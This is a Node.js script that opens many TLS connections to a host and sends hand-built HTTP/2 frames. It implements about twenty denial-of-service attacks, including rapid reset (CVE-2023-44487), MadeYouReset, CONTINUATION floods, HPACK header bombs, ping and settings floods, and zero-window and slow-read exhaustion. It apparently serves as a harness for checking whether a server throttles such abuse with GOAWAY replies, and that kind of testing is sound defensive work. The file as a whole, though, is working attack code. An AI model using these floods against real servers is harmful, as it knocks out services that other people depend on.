#!/usr/bin/env node
// Attackers who speak HTTP/2 in frames of their own making: abuse_h2.js KIND HOST SECONDS CONNECTIONS FIRST_ADDRESS ADDRESSES.
// Each of the connections, from one of the addresses in turn, does the same as fast as its socket takes it, and is opened
// anew when it was ended. Prints one JSON object: connections opened, of those ended by a GOAWAY with ENHANCE_YOUR_CALM, by another
// end, frames sent in bytes.
'use strict';
const tls = require('tls');

const [kind, host, seconds, connections, first, addresses] = process.argv.slice(2);
const seen = { opened: 0, calmed: 0, ended: 0, bytes: 0, answers: 0 };
const TYPE = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, goaway: 7, update: 8, continuation: 9 };
const END_STREAM = 1, ACK = 1, END_HEADERS = 4;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head.writeUInt8(type, 3);
    head.writeUInt8(flags, 4);
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, payload]);
}

const number = (n, bytes = 4) => {
    const out = Buffer.alloc(bytes);
    out.writeUIntBE(n, 0, bytes);
    return out;
};

// HPACK (RFC 7541): a literal string without Huffman code, and its length.
function text(s) {
    const bytes = Buffer.from(s);
    if (bytes.length < 127)
        return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    const length = [127];
    let rest = bytes.length - 127;
    for (; rest >= 128; rest >>= 7)
        length.push(128 | (rest & 127));
    return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}
const field = (name, value) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
const kept = (name, value) => Buffer.concat([Buffer.from([0x40]), text(name), text(value)]); // goes into the dynamic table
const request = (path = '/settings.js', method = 'GET') => Buffer.concat([
    Buffer.from([0x87, method === 'GET' ? 0x82 : 0x83]), // :scheme https, :method
    Buffer.from([0x01]), text(host), // :authority
    Buffer.from([0x04]), text(path),
]);
const setting = (id, value) => Buffer.concat([number(id, 2), number(value)]);
const many = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(i)));

// Streams are numbered 1, 3, 5 …
const next = (c) => {
    c.stream += 2;
    return c.stream;
};

// One row per attack: settings of its own, what it says first, and what it says again and again (nothing: it waits).
const kinds = {
    'rapid-reset': { again: (c) => many(50, () => { // CVE-2023-44487
        const id = next(c);
        return Buffer.concat([frame(TYPE.headers, END_HEADERS | END_STREAM, id, request('/bulk/data?bytes=1000000')),
            frame(TYPE.reset, 0, id, number(8))]);
    }) },
    'made-you-reset': { again: (c) => many(50, () => { // CVE-2025-8671: a WINDOW_UPDATE of 0 makes the server reset
        const id = next(c);
        return Buffer.concat([frame(TYPE.headers, END_HEADERS | END_STREAM, id, request('/bulk/data?bytes=1000000')),
            frame(TYPE.update, 0, id, number(0))]);
    }) },
    continuation: { // CVE-2024-27316
        first: (c) => frame(TYPE.headers, END_STREAM, next(c), request()),
        again: (c) => many(50, (i) => frame(TYPE.continuation, 0, c.stream, field(`x-${i}`, 'a'.repeat(200)))),
    },
    'empty-continuation': {
        first: (c) => frame(TYPE.headers, END_STREAM, next(c), request()),
        again: (c) => many(200, () => frame(TYPE.continuation, 0, c.stream)),
    },
    ping: { again: () => many(200, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))) },
    settings: { again: () => many(200, (i) => frame(TYPE.settings, 0, 0, setting(4, 65535 + i))) },
    'settings-ack': { again: () => many(200, () => frame(TYPE.settings, ACK, 0)) },
    'empty-data': {
        first: (c) => frame(TYPE.headers, END_HEADERS, next(c), request('/bulk/sum', 'POST')),
        again: (c) => many(200, () => frame(TYPE.data, 0, c.stream)),
    },
    'padded-data': { // a byte of body in a frame of 257
        first: (c) => frame(TYPE.headers, END_HEADERS, next(c), request('/bulk/sum', 'POST')),
        again: (c) => many(50, () => frame(TYPE.data, 8, c.stream, Buffer.concat([Buffer.from([254, 65]), Buffer.alloc(254)]))),
    },
    update: { again: () => many(500, () => frame(TYPE.update, 0, 0, number(1))) },
    priority: { again: () => many(500, (i) => frame(TYPE.priority, 0, 1 + 2 * i, Buffer.concat([number(0), Buffer.from([1])]))) },
    // One field of 3 KB in the dynamic table, then heads that name it a hundred times: a byte each.
    bomb: {
        first: (c) => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), Buffer.concat([request(), kept('x-bomb', 'b'.repeat(3000))])),
        again: (c) => many(50, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), Buffer.concat([request(), Buffer.alloc(4000, 0x80 | 62)]))),
    },
    // Heads as large as they may be.
    heads: { again: (c) => many(4, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c),
        Buffer.concat([request(), ...Array.from({ length: 15 }, (_, i) => field(`x-${i}`, 'h'.repeat(1000)))]))) },
    'table-size': { again: (c) => many(50, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c),
        Buffer.concat([Buffer.from([0x20, 0x3f, 0xe1, 0x1f]), request()]))) },
    // Above 100 at once.
    'over-the-limit': { again: (c) => many(300, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), request('/bulk/slow'))) },
    'last-number': { first: () => frame(TYPE.headers, END_HEADERS | END_STREAM, 0x7fffffff, request()), again: (c) =>
        many(20, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), request())) },
    // Answers of 1 MB each that are not taken: no window (CVE-2019-9517), and window without reading.
    'no-window': { settings: setting(4, 0), first: (c) => many(90, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), request('/bulk/data?bytes=1000000'))) },
    'slow-read': { settings: setting(4, 0x7fffffff), deaf: true, first: (c) => Buffer.concat([frame(TYPE.update, 0, 0, number(0x7fff0000)),
        many(90, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), request('/bulk/data?bytes=1000000')))]) },
    // Window byte by byte.
    dribble: { settings: setting(4, 1), first: (c) => many(20, () => frame(TYPE.headers, END_HEADERS | END_STREAM, next(c), request('/bulk/data?bytes=1000000'))),
        again: (c) => many(100, (i) => frame(TYPE.update, 0, 1 + 2 * (i % 20), number(1))) },
    'slow-body': { first: (c) => many(90, () => frame(TYPE.headers, END_HEADERS, next(c), request('/bulk/sum', 'POST'))) },
    'half-head': { first: (c) => frame(TYPE.headers, END_STREAM, next(c), request()) },
};
const attack = kinds[kind];
const [network, host1] = [first.replace(/\d+$/, ''), Number(first.replace(/^.*\./, ''))];
const deadline = Date.now() + seconds * 1000;

function attacker(i) {
    const c = { stream: -1, over: false, input: Buffer.alloc(0) };
    const socket = tls.connect({
        host, port: 443, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false, family: 4,
        localAddress: network + (host1 + (i % addresses)),
    });
    seen.opened++;
    const flood = () => {
        if (!c.over && attack.again && Date.now() < deadline) {
            const bytes = attack.again(c);
            seen.bytes += bytes.length;
            if (socket.write(bytes) || socket.writableLength === 0)
                return void setImmediate(flood);
            return void socket.once('drain', flood);
        }
    };
    socket.on('secureConnect', () => {
        const hello = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(TYPE.settings, 0, 0, attack.settings),
            frame(TYPE.settings, ACK, 0), attack.first ? attack.first(c) : Buffer.alloc(0)]);
        seen.bytes += hello.length;
        socket.write(hello);
        if (attack.deaf)
            socket.pause();
        flood();
    });
    socket.on('data', (data) => {
        c.input = Buffer.concat([c.input, data]);
        while (c.input.length >= 9 && c.input.length >= 9 + c.input.readUIntBE(0, 3)) {
            const length = c.input.readUIntBE(0, 3);
            if (c.input[3] === TYPE.headers)
                seen.answers++;
            if (c.input[3] === TYPE.goaway) {
                seen.calmed += c.input.readUInt32BE(13) === 11;
                c.over = true;
            }
            c.input = c.input.subarray(9 + length);
        }
        if (c.over)
            socket.end();
    });
    socket.on('error', () => {});
    socket.on('close', () => {
        seen.ended++;
        c.over = true;
        if (Date.now() < deadline)
            setTimeout(attacker, 10, i);
    });
}

for (let i = 0; i < connections; i++)
    attacker(i);
setTimeout(() => {
    console.log(JSON.stringify(seen));
    process.exit(0);
}, seconds * 1000 + 100);
